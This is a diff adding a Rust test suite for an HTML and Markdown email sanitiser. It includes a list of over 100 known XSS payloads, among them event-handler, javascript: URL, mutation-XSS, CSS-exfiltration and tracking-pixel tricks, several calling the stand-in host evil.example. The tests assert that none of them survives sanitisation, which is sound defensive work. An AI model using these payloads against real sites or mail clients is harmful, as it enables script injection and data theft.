@@ -1,0 +1,436 @@
+//! Known ways of smuggling script, style and requests through HTML, and proof that none comes out.
+
+use bedside_codecs::mail::html::{
+    MAX_INPUT, html_to_text, markdown_to_html, sanitise, text_to_html,
+};
+use html5ever::tokenizer::{
+    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
+};
+use proptest::prelude::*;
+use std::{cell::RefCell, time::Instant};
+
+#[derive(Default)]
+struct Tags(RefCell<Vec<Tag>>, RefCell<Vec<String>>);
+
+impl TokenSink for Tags {
+    type Handle = ();
+    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
+        match token {
+            Token::TagToken(tag) => self.0.borrow_mut().push(tag),
+            Token::CommentToken(text) => self.1.borrow_mut().push(text.to_string()),
+            Token::DoctypeToken(_) => self.1.borrow_mut().push("doctype".into()),
+            _ => {}
+        }
+        TokenSinkResult::Continue
+    }
+}
+
+/// What may be in the output, written down apart from the code under test.
+const ELEMENTS: &str = " a abbr b bdi bdo blockquote br caption center cite code col colgroup dd del div dl dt em h1 h2 h3 h4 h5 h6 \
+    hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr u ul var wbr ";
+
+/// Reads the output with a browser's tokenizer and says what is wrong with it.
+fn fault(html: &str) -> Option<String> {
+    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
+    let queue = BufferQueue::default();
+    queue.push_back(html.into());
+    let _ = tokenizer.feed(&queue);
+    tokenizer.end();
+    if let Some(comment) = tokenizer.sink.1.borrow().first() {
+        return Some(format!("comment {comment}"));
+    }
+    for tag in tokenizer.sink.0.borrow().iter() {
+        if !ELEMENTS.contains(&format!(" {} ", tag.name)) {
+            return Some(format!("element {}", tag.name));
+        }
+        if tag.kind == TagKind::EndTag && !tag.attrs.is_empty() {
+            return Some("attribute on an end tag".into());
+        }
+        for attr in &tag.attrs {
+            let (name, value) = (&*attr.name.local, &*attr.value);
+            let ok = match name {
+                "href" => {
+                    &*tag.name == "a"
+                        && ["http://", "https://", "mailto:", "tel:"]
+                            .iter()
+                            .any(|s| value.to_lowercase().starts_with(s))
+                }
+                "src" => &*tag.name == "img" && value.starts_with("/files/"),
+                "class" => &*tag.name == "span" && value == "remote-image",
+                "rel" => value == "noopener noreferrer nofollow",
+                "target" => value == "_blank",
+                "loading" => value == "lazy",
+                "alt" | "title" | "dir" | "lang" | "align" | "valign" | "width" | "height"
+                | "colspan" | "rowspan" | "start" => true,
+                _ => false,
+            };
+            if !ok {
+                return Some(format!("{} {name}={value}", tag.name));
+            }
+        }
+        let has = |wanted: &str| tag.attrs.iter().any(|a| &*a.name.local == wanted);
+        if tag.kind == TagKind::StartTag && &*tag.name == "a" && !(has("rel") && has("target")) {
+            return Some("link that may reach back".into());
+        }
+    }
+    None
+}
+
+#[expect(
+    clippy::unnecessary_wraps,
+    reason = "the form the function under test asks for"
+)]
+fn cid(id: &str) -> Option<String> {
+    match id {
+        "evil" => Some("javascript:alert(1)".into()),
+        "host" => Some("//evil.example/x".into()),
+        id => Some(format!("/files/{}", id.len())),
+    }
+}
+
+const ATTACKS: &[&str] = &[
+    // Script, plainly and disguised.
+    "<script>steal()</script>",
+    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
+    "<script\n>steal()</script\t>",
+    "<scr<script>ipt>steal()</scr</script>ipt>",
+    "<script/x>steal()</script>",
+    "<script>steal()",
+    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
+    "<template><script>steal()</script></template>",
+    // Handlers.
+    "<img src=x onerror=steal()>",
+    "<img src=x oNeRrOr=\"steal()\">",
+    "<body onload=steal()>",
+    "<p onmouseover='steal()'>x</p>",
+    "<div onpointerrawupdate=steal()>x</div>",
+    "<img/src=x/onerror=steal()>",
+    "<details open ontoggle=steal()>",
+    "<video><source onerror=steal()></video>",
+    "<audio src=x onerror=steal()>",
+    "<marquee onstart=steal()>x</marquee>",
+    "<input autofocus onfocus=steal()>",
+    "<a href=https://x.example onclick=steal()>x</a>",
+    "<img src=\"x\" alt=\"\" \u{b}onerror=steal()>",
+    "<b style=animation-name:x onanimationstart=steal()>",
+    "<xss id=x tabindex=1 onfocus=steal()></xss>",
+    "<p title='\"><img src=x onerror=steal()>'>x",
+    "<img alt=\"`><script>steal()</script>\">",
+    // Addresses that run.
+    "<a href=javascript:steal()>x</a>",
+    "<a href=JaVaScRiPt:steal()>x</a>",
+    "<a href='java\nscript:steal()'>x</a>",
+    "<a href='&#106;avascript:steal()'>x</a>",
+    "<a href='\u{1}javascript:steal()'>x</a>",
+    "<a href=' &#14; javascript:steal()'>x</a>",
+    "<a href=vbscript:steal()>x</a>",
+    "<a href='data:text/html,<script>steal()</script>'>x</a>",
+    "<a href=\"javascript&colon;steal()\">x</a>",
+    "<a href='blob:https://x/1'>x</a>",
+    "<a href=file:///etc/passwd>x</a>",
+    "<a href=cid:pic>x</a>",
+    "<a href=//evil.example>x</a>",
+    "<a href=/admin/delete>x</a>",
+    "<img src=javascript:steal()>",
+    "<img src='data:image/svg+xml,<svg onload=steal()>'>",
+    "<img src=cid:evil>",
+    "<img src=cid:host>",
+    "<a xlink:href=javascript:steal()>x</a>",
+    "<iframe src=javascript:steal()></iframe>",
+    "<iframe srcdoc='<script>steal()</script>'></iframe>",
+    "<object data=javascript:steal()></object>",
+    "<embed src=javascript:steal()>",
+    "<base href=https://evil.example/><a href=x>x</a>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=import href=https://evil.example>",
+    "<form action=https://evil.example><input name=password><button formaction=javascript:steal()>x</button></form>",
+    "<isindex action=javascript:steal()>",
+    "<button form=login formaction=https://evil.example>x</button>",
+    "<math href=javascript:steal()>x</math>",
+    "<a ping=https://evil.example href=https://x.example>x</a>",
+    // Style that draws over the page or sends what is on it.
+    "<style>@import url(https://evil.example/a.css);</style>",
+    "<style>input[name=csrf][value^=a]{background:url(https://evil.example/a)}</style>",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    "<p style=\"background:url(https://evil.example/a)\">x</p>",
+    "<p style=\"position:fixed;inset:0;z-index:9999\">x</p>",
+    "<p style='width:expression(steal())'>x</p>",
+    "<p style=\"-moz-binding:url(//evil.example)\">x</p>",
+    "<svg><style>{font-family:'<iframe/onload=steal()>'</style></svg>",
+    "<style>@font-face{font-family:x;src:url(https://evil.example/?a);unicode-range:U+0041}</style>",
+    "<table background=https://evil.example/a><tr><td>x</table>",
+    "<div class=modal id=csrf>x</div>",
+    "<p style=\"content:attr(data-token)\" data-token=x>x</p>",
+    "<body style='background-image:image-set(\"https://evil.example/a\" 1x)'>x",
+    "<style><!--</style><script>steal()//--></script>",
+    // Pictures that tell.
+    "<img src=https://evil.example/open.gif?id=1>",
+    "<img srcset='https://evil.example/a 1x' src=cid:a>",
+    "<picture><source srcset=https://evil.example/a><img src=cid:a></picture>",
+    "<img src=cid:a lowsrc=https://evil.example/a dynsrc=x longdesc=https://x>",
+    "<video poster=https://evil.example/a>",
+    "<input type=image src=https://evil.example/a>",
+    "<image href=https://evil.example/a>",
+    "<img src=cid:a loading=eager crossorigin fetchpriority=high usemap=#m>",
+    // Other languages in the page, and trees that change when read twice.
+    "<svg onload=steal()>",
+    "<svg><script>steal()</script></svg>",
+    "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:steal() /><a id=x>x</a></svg>",
+    "<svg><foreignObject><img src=x onerror=steal()></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
+    "<noembed><img title=\"</noembed><img src onerror=steal()>\"></noembed>",
+    "<xmp><p title=\"</xmp><img src=x onerror=steal()>\"></xmp>",
+    "<textarea><img title=\"</textarea><img src=x onerror=steal()>\"></textarea>",
+    "<select><style></select><img src=x onerror=steal()></style></select>",
+    "<plaintext><script>steal()</script>",
+    "<!--[if IE]><script>steal()</script><![endif]-->",
+    "<!--><img src=x onerror=steal()>-->",
+    "<![CDATA[<img src=x onerror=steal()>]]>",
+    "<?xml-stylesheet href=javascript:steal()?>",
+    "<!doctype html [<!entity x 'y'>]>&x;",
+    "<p>\0<scr\0ipt>steal()</scr\0ipt>",
+    "<\u{ff1c}script>steal()</script>",
+    "<a href='https://x.example/\"onmouseover=steal() x=\"'>x</a>",
+    "</p onclick=steal()>",
+    "<td colspan=99999999>x",
+    "<font color=expression(steal())>x</font>",
+    "<a href=\"https://x.example\" target=_self rel=opener>x</a>",
+    "<b/title='a>b\"<img src=x onerror=steal()>'>x</b>",
+    "<img alt=\"<script>steal()</script>\" src=https://x.example/a.png>",
+    "<img alt='\"><script>steal()</script>' src=cid:a>",
+];
+
+#[test]
+fn nothing_of_the_known_attacks_comes_out() {
+    assert!(ATTACKS.len() >= 100);
+    let wrappers = [
+        "{}",
+        "<p>{}</p>",
+        "<div><table><tr><td>{}",
+        "<b title=\"{}\">x</b>",
+        "<a href=\"{}\">x</a>",
+        "<svg>{}",
+        "<ul><li>{}<li>x</ul>",
+    ];
+    for attack in ATTACKS {
+        for wrapper in wrappers {
+            let given = wrapper.replace("{}", attack);
+            let clean = sanitise(&given, &cid);
+            assert_eq!(fault(&clean.html), None, "{given}\n-> {}", clean.html);
+            assert!(
+                !clean.html.contains("evil.example/a") || wrapper != "{}",
+                "{given}\n-> {}",
+                clean.html
+            );
+        }
+        for html in [
+            markdown_to_html(attack),
+            markdown_to_html(&format!("[x]({attack}) ![y](<{attack}>)")),
+            text_to_html(&html_to_text(attack)),
+        ] {
+            assert_eq!(fault(&html), None, "{attack}\n-> {html}");
+        }
+        assert_eq!(fault(&text_to_html(attack)), None, "{attack}");
+    }
+}
+
+#[test]
+fn the_check_itself_sees_attacks() {
+    let missed: Vec<_> = [
+        "<script>x</script>",
+        "<p onclick=x>",
+        "<p style=x>",
+        "<a href=javascript:x>",
+        "<img src=https://x>",
+        "<!-- x -->",
+        "<form>",
+        "<a href=https://x.example>x</a>",
+        "<p id=x>",
+    ]
+    .into_iter()
+    .filter(|html| fault(html).is_none())
+    .collect();
+    assert!(missed.is_empty(), "{missed:?}");
+}
+
+#[test]
+fn reading_it_again_changes_nothing() {
+    for attack in ATTACKS {
+        // What the desk itself adds is left out of the comparison, and so are two ways of writing
+        // one character.
+        let clean = |html: &str| {
+            sanitise(html, &|_| None)
+                .html
+                .replace(" class=\"remote-image\"", "")
+                .replace(" target=\"_blank\"", "")
+                .replace(" rel=\"noopener noreferrer nofollow\"", "")
+        };
+        let alike = |html: &str| html.replace("&quot;", "\"").replace("&#39;", "'");
+        let once = clean(attack);
+        assert_eq!(alike(&clean(&once)), alike(&once), "{attack}");
+    }
+}
+
+#[test]
+fn letters_keep_their_form() {
+    let clean = sanitise(
+        "<h1 class=x>Hi</h1><p dir=rtl lang=ar style='color:red'>a <b>b</b> <a href=\"https://x.example/?a=1&b=2\">l</a> <a href=tel:+1555>t</a></p>\
+         <table><tr><td colspan=2 width=5>x</td></tr></table><ol start=3><li>y</ol>",
+        &cid,
+    );
+    assert_eq!(
+        clean.html,
+        "<h1>Hi</h1><p dir=\"rtl\" lang=\"ar\">a <b>b</b> <a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">l</a> \
+         <a href=\"tel:+1555\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">t</a></p><table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table><ol start=\"3\"><li>y</li></ol>"
+    );
+    assert!(!clean.had_remote && !clean.simplified);
+}
+
+#[test]
+fn pictures() {
+    let clean = sanitise(
+        "<img src='cid:a%40b' alt='a \"b\" <c>' width=20 height=30>",
+        &cid,
+    );
+    assert_eq!(
+        clean.html,
+        "<img src=\"/files/3\" alt=\"a &quot;b&quot; &lt;c&gt;\" width=\"20\" height=\"30\" loading=\"lazy\">"
+    );
+    assert!(!clean.had_remote);
+    let clean = sanitise("<img src=HTTPS://x.example/a.png alt=logo>", &cid);
+    assert_eq!(
+        (clean.html.as_str(), clean.had_remote),
+        ("<span class=\"remote-image\">logo</span>", true)
+    );
+    let clean = sanitise("<img src=https://x.example/dot.gif width=1 height=1>", &cid);
+    assert_eq!((clean.html.as_str(), clean.had_remote), ("", true));
+    let clean = sanitise("<img src=cid:missing alt=scan>", &|_| None);
+    assert_eq!(
+        (clean.html.as_str(), clean.had_remote),
+        ("<span class=\"remote-image\">scan</span>", false)
+    );
+}
+
+#[test]
+fn markdown_of_staff() {
+    assert_eq!(
+        markdown_to_html(
+            "**Hola** <b>x</b>\nlínea\n\n- a\n- b\n\n[l](https://x.example) [bad](javascript:x)"
+        ),
+        "<p><strong>Hola</strong> &lt;b&gt;x&lt;/b&gt;<br>\nlínea</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n\
+         <p><a href=\"https://x.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">l</a> \
+         <a target=\"_blank\" rel=\"noopener noreferrer nofollow\">bad</a></p>\n"
+    );
+}
+
+#[test]
+fn large_and_deep_input_is_shown_as_text_quickly() {
+    std::thread::Builder::new()
+        .stack_size(256 * 1024)
+        .spawn(|| {
+            for html in [
+                "<div>".repeat(100_000) + "x",
+                "<p>word</p>".repeat(MAX_INPUT / 11 + 1),
+                "<table><tr><td>".repeat(50_000),
+            ] {
+                let started = Instant::now();
+                let clean = sanitise(&html, &cid);
+                assert!(
+                    clean.simplified
+                        && clean.html.contains(if html.starts_with("<table") {
+                            ""
+                        } else {
+                            "<p>"
+                        })
+                );
+                assert_eq!(fault(&clean.html), None);
+                assert!(started.elapsed().as_secs() < 5);
+            }
+            for piece in [
+                "<a href=x><b>",
+                "<b a=1>",
+                "<b></b>",
+                "<p><b>",
+                "<font size=1><p></font>",
+                "<b><div></b>",
+                "<td>",
+                "&lt;",
+                "<a><table>",
+                "<nobr>",
+                "<li>",
+                "<dd><p>",
+            ] {
+                let html = piece.repeat(MAX_INPUT / piece.len());
+                let started = Instant::now();
+                assert_eq!(fault(&sanitise(&html, &cid).html), None);
+                assert!(
+                    started.elapsed().as_secs() < 10,
+                    "{piece} {:?}",
+                    started.elapsed()
+                );
+            }
+            for piece in [
+                ">",
+                "> ",
+                "- ",
+                "* ",
+                "[",
+                "![",
+                "**",
+                "_a ",
+                "<",
+                "`",
+                "1. ",
+                "[a](",
+                "|",
+                "~~",
+                "\\",
+                "&",
+                "  - a\n",
+                "> a\n>",
+                "| a |\n|-|\n",
+            ] {
+                let started = Instant::now();
+                let html = markdown_to_html(&piece.repeat(200_000 / piece.len()));
+                assert_eq!(fault(&html), None);
+                assert!(
+                    started.elapsed().as_secs() < 10,
+                    "{piece} {:?}",
+                    started.elapsed()
+                );
+            }
+            let unclosed = (0..150)
+                .map(|n| format!("<font color={n}>"))
+                .collect::<Vec<_>>()
+                .concat();
+            let attributes = (0..200_000)
+                .map(|n| format!(" a{n}"))
+                .collect::<Vec<_>>()
+                .concat();
+            for html in [
+                format!("<p>{unclosed}{}", "<p>x".repeat(50_000)),
+                format!("<p{attributes}>x"),
+            ] {
+                let started = Instant::now();
+                assert!(sanitise(&html, &cid).simplified);
+                assert!(started.elapsed().as_secs() < 5);
+            }
+            let steps: String = (0..400).map(|n| " ".repeat(n * 2) + "- a\n").collect();
+            assert_eq!(fault(&markdown_to_html(&steps)), None);
+        })
+        .unwrap()
+        .join()
+        .unwrap();
+}
+
+proptest! {
+    #[test]
+    fn any_mixture_is_safe(html in "(<(/?)(a|b|p|img|svg|math|style|script|table|td|form|select|template|title|mtext|mglyph|annotation-xml|foreignObject)|>|<!--|-->|<!\\[CDATA\\[| href=| src=| onclick=| style=|javascript:|https://x\\.y|cid:a|\"|'|x| |/|&lt;|&#60;|\\PC){0,40}") {
+        let clean = sanitise(&html, &cid);
+        prop_assert_eq!(fault(&clean.html), None, "{}", clean.html);
+        prop_assert_eq!(fault(&markdown_to_html(&html)), None);
+    }
+}
